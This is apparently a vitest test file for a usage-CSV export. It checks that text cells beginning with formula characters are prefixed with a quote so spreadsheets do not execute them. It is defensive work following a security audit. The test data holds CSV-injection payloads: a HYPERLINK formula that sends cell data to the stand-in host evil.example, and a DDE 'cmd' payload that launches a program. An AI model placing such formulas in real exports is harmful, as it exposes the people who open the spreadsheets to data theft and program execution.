/**
 * Found in security-audit (notes item 5): the usage CSV (`GET /api/v1/usage?format=csv`) wrote a project
 * path or model name as it was; one starting with `=`, `+`, `-` or `@` (a folder can be named so) is run
 * as a formula by the spreadsheet that opens the export (OWASP "CSV injection": `=HYPERLINK(…)` sends
 * data away, `=cmd|…` ran programs in old Excel). Now such a text cell (and one starting with a tab or a
 * carriage return) starts with `'`, and counts and costs stay plain numbers. The server's own writer.
 */
import type { Api } from "@overlord/protocol"
import { expect, it } from "vitest"
import { usageCsv } from "../../src/http-api.ts"

const row = (key: string, n: number): Api.UsageRow => ({
  key,
  input: n,
  output: 2 * n,
  cacheWrite: 3,
  cacheRead: 4,
  costUsd: 0.125,
  messages: 1,
})

it("text cells that a spreadsheet would run as formulas are neutralised; numbers stay numbers", () => {
  const keys = [
    '=HYPERLINK("https://evil.example/?d="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "/home/ada/code/overlord",
    "claude-sonnet-4-5",
  ]
  const csv = usageCsv({
    groupBy: "project",
    rows: keys.map((k, i) => row(k, i + 1)),
    truncated: false,
    totals: row("total", 36),
    pricingSource: "test",
  })
  // A quoted cell may hold a line break ("\r=1+1" is quoted): split on the newlines outside quotes.
  const lines = csv.split(/\n(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter((l) => l !== "")
  expect(lines[0]).toBe("project,input,output,cache_write,cache_read,cost_usd,messages")
  const cells = lines.slice(1).map((l) => {
    const key = l.startsWith('"') ? l.slice(0, l.lastIndexOf('"') + 1) : l.slice(0, l.indexOf(","))
    return { key, numbers: l.slice(key.length + 1).split(",") }
  })
  expect(cells.map((c) => c.key)).toEqual([
    `"'=HYPERLINK(""https://evil.example/?d=""&A2,""open"")"`,
    "'+1+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\t=1+1",
    `"'\r=1+1"`,
    "/home/ada/code/overlord",
    "claude-sonnet-4-5",
    "total",
  ])
  // Every count and cost is a bare number (no quote, no prefix), as a spreadsheet reads numbers.
  for (const { numbers } of cells) {
    expect(numbers).toHaveLength(6)
    for (const n of numbers) expect(n).toMatch(/^\d+(\.\d+)?$/)
  }
  expect(cells[0]!.numbers).toEqual(["1", "2", "3", "4", "0.125000", "1"])
})
